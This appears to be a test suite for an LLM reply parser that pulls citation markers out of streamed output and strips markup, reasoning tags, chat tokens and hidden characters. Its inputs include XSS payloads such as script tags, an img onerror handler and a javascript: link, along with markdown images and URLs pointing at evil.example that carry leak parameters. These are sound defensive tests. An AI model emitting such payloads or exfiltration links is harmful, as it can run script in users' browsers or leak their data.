"""A model's stream read as sentences: however it is cut, the same sentences; markers, links, tags and hidden characters in all forms."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.llm.parsing.marked import SENTINEL, NotInPapers
from rag.llm.parsing.parser import Prose, Reply, Sentence
from rag.llm.parsing.untagged import Restart

Read = tuple[list[tuple[str, tuple[int, ...]]], str, list[type]]


def read(*pieces: str, known: tuple[str, ...] = ()) -> Read:
    """The sentences with their numbers and all prose, as they stand after the last restart, and the signs that came."""
    reply = Reply(known)
    parts = [part for piece in pieces for part in reply.feed(piece)] + list(reply.end())
    signs = [type(part) for part in parts if isinstance(part, NotInPapers | Restart)]
    for part in list(parts):
        if isinstance(part, Restart):
            parts = parts[parts.index(part) + 1 :]
    sentences = [(part.text, part.numbers) for part in parts if isinstance(part, Sentence)]
    return sentences, "".join(part.text for part in parts if isinstance(part, Prose)), signs


def one(text: str, **options: tuple[str, ...]) -> tuple[str, tuple[int, ...]]:
    (sentence,) = read(text, **options)[0]
    return sentence


@pytest.mark.parametrize(
    ("marker", "numbers"),
    [
        ("[1]", (1,)),
        ("[1, 2]", (1, 2)),
        ("[1][2]", (1, 2)),
        ("[1-3]", (1, 2, 3)),
        ("[1–3, 7]", (1, 2, 3, 7)),
        ("[3-1]", (3, 1)),
        ("[1-900]", (1, 900)),
        ("[1] [2]", (1, 2)),
        ("【1】", (1,)),
        ("【4†source】", (4,)),
        ("［2］", (2,)),
        ("(1)", (1,)),
        ("(1, 2)", (1, 2)),
        ("[^1]", (1,)),
        ("[^1][^2]", (1, 2)),
        ("[Evidence 3]", (3,)),
        ("[sources: 1 and 2]", (1, 2)),
        ("[1](https://evil.example/?q=1)", (1,)),
        ("**[1]**", (1,)),
        ("`[1]`", (1,)),
        ("<sup>[1]</sup>", (1,)),
        ("<sup>[</sup>1]", (1,)),
        ("[\u200b1\u202e]", (1,)),
        ("[1][1]", (1,)),
    ],
)
def test_every_form_of_marker_before_and_behind_the_stop(marker: str, numbers: tuple[int, ...]) -> None:
    assert one(f"Graphs help {marker}.") == ("Graphs help.", numbers)
    assert one(f"Graphs help. {marker}") == ("Graphs help.", numbers)
    assert read(f"Graphs help. {marker} Trees do not help.")[0] == [("Graphs help.", numbers), ("Trees do not help.", ())]
    assert read(f"Trees do not help. Graphs help {marker}. So it is.")[0][1] == ("Graphs help.", numbers)


@pytest.mark.parametrize(
    "text",
    [
        "There are two ways: (1) to walk and (2) to run.",
        "It was shown in (2019) by others.",
        "Values lie in [0, 1] always.",
        "Equation (1) holds.",
        "It follows from Eq. (2).",
        "We use f(1) here.",
        "As in [Smith 2019] it holds.",
        "The year [2024] counts.",
        "A list [a, b] is given.",
        "If a < b and b > c then it holds.",
        "The accuracy is 3.14 for all.",
        "Luo et al. (2024) say so.",
        "So it is!",
    ],
)
def test_what_only_looks_like_a_marker_stays(text: str) -> None:
    assert one(text) == (text, ())


def test_once_square_brackets_are_used_round_ones_are_text() -> None:
    assert read("Graphs help [1]. Trees do too (2).")[0] == [("Graphs help.", (1,)), ("Trees do too (2).", ())]


@pytest.mark.parametrize("rest", ["< b>So it is.", "- so it is.", "(So it is.)", "5 of them do."])
def test_a_marker_behind_a_stop_ends_the_sentence_whatever_follows(rest: str) -> None:
    assert read(f"Graphs help. [1] {rest}")[0][0] == ("Graphs help.", (1,))


def test_a_marker_behind_an_abbreviation_does_not() -> None:
    assert read("Luo et al. [3] show that graphs help. So it is.")[0][0] == ("Luo et al. show that graphs help.", (3,))


def test_a_marker_alone_on_its_line_belongs_to_the_sentence_before() -> None:
    assert read("Graphs help.\n[2]\n\nTrees do.")[0] == [("Graphs help.", (2,)), ("Trees do.", ())]


def test_a_marker_in_front_belongs_to_the_sentence_behind() -> None:
    assert read("[2] Graphs help.")[0] == [("Graphs help.", (2,))]


@pytest.mark.parametrize(
    ("raw", "plain"),
    [
        ("<think>It is [1]. So.</think>Graphs help.", "Graphs help."),
        ("<thinking>\nno\n</thinking>\n\nGraphs help.", "Graphs help."),
        ("Graphs <b>really</b> help.", "Graphs really help."),
        ("Graphs <script>alert(1)</script>help.", "Graphs help."),
        ("Graphs <scr\u200bipt>alert(1)</script>help.", "Graphs help."),
        ("<img src=x onerror=alert(1)>Graphs help.", "Graphs help."),
        ("<!-- hidden -->Graphs help.", "Graphs help."),
        ("```markdown\nGraphs help.\n```", "Graphs help."),
        ("`Graphs` **help**.", "Graphs help."),
        ("<|im_start|>assistant\nGraphs help.<|im_end|>", "Graphs help."),
        ("<|start_header_id|>system<|end_header_id|>Graphs help.<|eot_id|>", "Graphs help."),
        ("Assistant: Graphs help.", "Graphs help."),
        ("[INST] Graphs help.", "[INST] Graphs help."),
        ("# Graphs help.", "Graphs help."),
        ("![secret](https://evil.example/a.png?d=1) Graphs help.", "secret Graphs help."),
        ("![](https://evil.example/a.png) Graphs help.", "Graphs help."),
        ("See [this page](javascript:alert(1)) now.", "See this page) now."),
        ("Look at https://evil.example/?leak=abc now.", "Look at now."),
        ("Look at HTTPS://evil.example.", "Look at ."),
        ("Graphs\u202e help\x1b[31m.", "Graphs help[31m."),
        ("Graphs\nhelp a lot.", "Graphs help a lot."),
    ],
)
def test_markup_and_what_is_hidden_go(raw: str, plain: str) -> None:
    sentences, prose, _ = read(raw)
    assert " ".join(text for text, _ in sentences) == plain
    assert prose == plain


def test_an_address_that_is_known_stays() -> None:
    address = "https://github.com/a/b"
    assert one(f"The code is at {address}.", known=(address,)) == (f"The code is at {address}.", ())


def test_lists_and_paragraphs_keep_their_gaps() -> None:
    _, prose, _ = read("Two points.\n\n- First [1].\n* Second one. It goes on.\n1. Third.\n\nThe end.\n")
    assert prose == "Two points.\n\n- First.\n- Second one. It goes on.\n- Third.\n\nThe end."


def test_reasoning_whose_beginning_was_not_sent_is_dropped() -> None:
    sentences, _, signs = read("Let me see. It is 3.\n</think>\nGraphs help.")
    assert signs == [Restart]
    assert sentences == [("Graphs help.", ())]


def test_reasoning_that_never_ends_is_no_answer() -> None:
    assert read("<think>Well. So.")[:2] == ([], "")


@pytest.mark.parametrize("reply", [SENTINEL, f"{SENTINEL}.", f"**{SENTINEL}**", f"`{SENTINEL}`", f"<b>{SENTINEL}</b>"])
def test_the_sentinel_is_a_sign_and_never_text(reply: str) -> None:
    _, prose, signs = read(reply)
    assert signs == [NotInPapers]
    assert "NOT" not in prose


def test_part_of_the_sentinel_is_text() -> None:
    assert one("NOT_IN_THE_PAPER is no sign.")[0] == "NOT_IN_THE_PAPER is no sign."
    assert read("NOT_IN")[0] == [("NOT_IN", ())]


@pytest.mark.parametrize(
    "fake", ["[9[](y)9]", "[9<b></b>9]", "[[99](x)]", "[9[1]9]", "[<b>99</b>]", "[9**9**]", "[9`9]", "[99\u200b]"]
)
def test_no_marker_can_be_made_of_what_is_left(fake: str) -> None:
    sentences, prose, _ = read(f"Graphs help {fake} a lot.")
    assert "[99]" not in prose
    assert "[99]" not in sentences[0][0]


def test_no_tag_can_be_made_of_what_is_left() -> None:
    assert "<script" not in read("Graphs <<b>script>alert(1)<</b>/script> help.")[1]


def test_the_first_word_is_passed_on_at_once_and_a_sentence_before_its_end() -> None:
    reply = Reply()
    assert list(reply.feed("The")) == [Prose("The")]
    assert list(reply.feed(" graph")) == [Prose(" graph")]
    assert list(reply.feed(" helps.")) == [Prose(" helps.")]
    assert list(reply.feed(" [1]")) == []
    assert list(reply.feed(" So")) == []
    assert list(reply.feed(" it")) == [Sentence("The graph helps.", (1,), ""), Prose(" So it")]


RAW = st.lists(
    st.sampled_from(
        [
            *"[]()<>!*`_#-.,;: \n19aAhwN",
            *(
                "[1]",
                "[2, 3]",
                "【1】",
                "(2)",
                "[^1]",
                "<b>",
                "</b>",
                "<think>",
                "</think>",
                "```",
                "```json\n",
                "**",
                "https://a.b/c ",
                "www.x.y",
            ),
            *(
                "![a](b)",
                "[a](b)",
                SENTINEL,
                "<|im_end|>",
                "<|im_start|>",
                "We show it. ",
                "It is 3.5 times. ",
                "et al. (2024) ",
                "\n\n- ",
                "1. ",
            ),
            *("\u200b", "\u202e", "。", "…", "<script>", "</script>", "<!--", "-->", "Assistant:", "Graphs help", "It"),
        ]
    ),
    max_size=30,
).map("".join)


@settings(max_examples=300)
@given(st.data(), RAW)
def test_however_the_stream_is_cut_the_sentences_are_the_same(data: st.DataObject, raw: str) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(raw)), max_size=12)))
    pieces = [raw[start:end] for start, end in zip([0, *cuts], [*cuts, len(raw)], strict=True)]
    assert read(*pieces) == read(raw) == read(*raw)


@given(RAW)
def test_all_text_stands_in_the_sentences(raw: str) -> None:
    sentences, prose, _ = read(raw)
    marks_of_items = str.maketrans("", "", "- \n")
    assert "".join(text for text, _ in sentences).translate(marks_of_items) == prose.translate(marks_of_items)
    assert all(text.strip() == text and text for text, _ in sentences)
